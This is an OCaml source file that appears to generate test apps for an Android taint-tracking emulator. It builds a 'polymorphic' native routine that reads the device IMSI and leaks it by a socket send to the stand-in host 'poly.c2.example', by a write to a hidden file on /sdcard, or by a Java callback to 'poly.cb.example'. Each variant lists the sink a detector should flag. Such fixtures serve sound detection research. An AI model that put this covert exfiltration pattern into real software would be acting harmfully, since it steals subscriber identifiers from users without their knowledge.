module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout

let cls = "Lcom/ndroid/demos/Poly;"
let telephony = "Landroid/telephony/TelephonyManager;"
let socket = "Ljava/net/Socket;"

let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))

let lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ (* int leak(int route, String data) *)
      Asm.Label "leak";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
      Asm.I (Insn.mov 9 (Insn.Reg 0));
      mov 7 2 (* route *);
      (* chars = GetStringUTFChars(env, data, 0) *)
      mov 1 3;
      movi 2 0;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      Asm.Call "GetStringUTFChars";
      mov 4 0;
      Asm.Call "strlen";
      mov 5 0;
      (* morph dispatch *)
      Asm.I (Insn.cmp 7 (Insn.Imm 0));
      Asm.Br (Insn.EQ, "route_send");
      Asm.I (Insn.cmp 7 (Insn.Imm 1));
      Asm.Br (Insn.EQ, "route_file");
      (* ---- morph 2: rebuild + Java callback (case 3 shape) ---- *)
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      mov 1 4;
      Asm.Call "NewStringUTF";
      mov 6 0;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      Asm.La (1, "cb_cls");
      Asm.Call "FindClass";
      mov 7 0;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      mov 1 7;
      Asm.La (2, "cb_m");
      Asm.La (3, "cb_sig");
      Asm.Call "GetStaticMethodID";
      mov 2 0;
      mov 1 7;
      mov 3 6;
      Asm.I (Insn.mov 0 (Insn.Reg 9));
      Asm.Call "CallStaticVoidMethod";
      Asm.Br (Insn.AL, "done");
      (* ---- morph 0: direct native send (case 2) ---- *)
      Asm.Label "route_send";
      Asm.Call "socket";
      mov 6 0;
      Asm.La (1, "pdest");
      Asm.Call "connect";
      mov 0 6;
      mov 1 4;
      mov 2 5;
      Asm.Call "send";
      Asm.Br (Insn.AL, "done");
      (* ---- morph 1: native file write ---- *)
      Asm.Label "route_file";
      Asm.La (0, "ppath");
      Asm.La (1, "pmode");
      Asm.Call "fopen";
      mov 6 0;
      mov 0 6;
      Asm.La (1, "pfmt");
      mov 2 4;
      Asm.Call "fprintf";
      mov 0 6;
      Asm.Call "fclose";
      Asm.Label "done";
      movi 0 0;
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
      Asm.Align4;
      Asm.Label "cb_cls";
      Asm.Asciz "Lcom/ndroid/demos/Poly;";
      Asm.Label "cb_m";
      Asm.Asciz "sinkCallback";
      Asm.Label "cb_sig";
      Asm.Asciz "(Ljava/lang/String;)V";
      Asm.Label "pdest";
      Asm.Asciz "poly.c2.example";
      Asm.Label "ppath";
      Asm.Asciz "/sdcard/.cache2";
      Asm.Label "pmode";
      Asm.Asciz "a";
      Asm.Label "pfmt";
      Asm.Asciz "%s" ]

let main_for route entry_name =
  J.method_ ~cls ~name:entry_name ~shorty:"V" ~registers:6
    [ J.I (B.Invoke (B.Static, { B.m_class = telephony;
                                 m_name = "getSubscriberId" }, []));
      J.I (B.Move_result 0);
      J.I (B.Const (1, Dvalue.Int (Int32.of_int route)));
      J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "leak" }, [ 1; 0 ]));
      J.I B.Return_void ]

let classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
      [ J.native_method ~cls ~name:"leak" ~shorty:"IIL" "leak";
        J.method_ ~cls ~name:"sinkCallback" ~shorty:"VL" ~registers:5
          [ J.I (B.Const_string (0, "poly.cb.example"));
            J.I (B.Invoke (B.Static, { B.m_class = socket; m_name = "send" },
                           [ 0; 4 ]));
            J.I B.Return_void ];
        main_for 0 "mainNet";
        main_for 1 "mainFile";
        main_for 2 "mainCallback" ] ]

let variant route entry sink =
  { Harness.app_name = Printf.sprintf "poly-%s" route;
    app_case = "polymorphic";
    description =
      Printf.sprintf "IMSI leak, morph %s of the same native routine" route;
    classes;
    build_libs = (fun extern -> [ ("poly", lib extern) ]);
    entry = (cls, entry);
    expected_sink = sink }

let variants =
  [ variant "net" "mainNet" "send";
    variant "file" "mainFile" "fprintf";
    variant "callback" "mainCallback" "Socket.send" ]
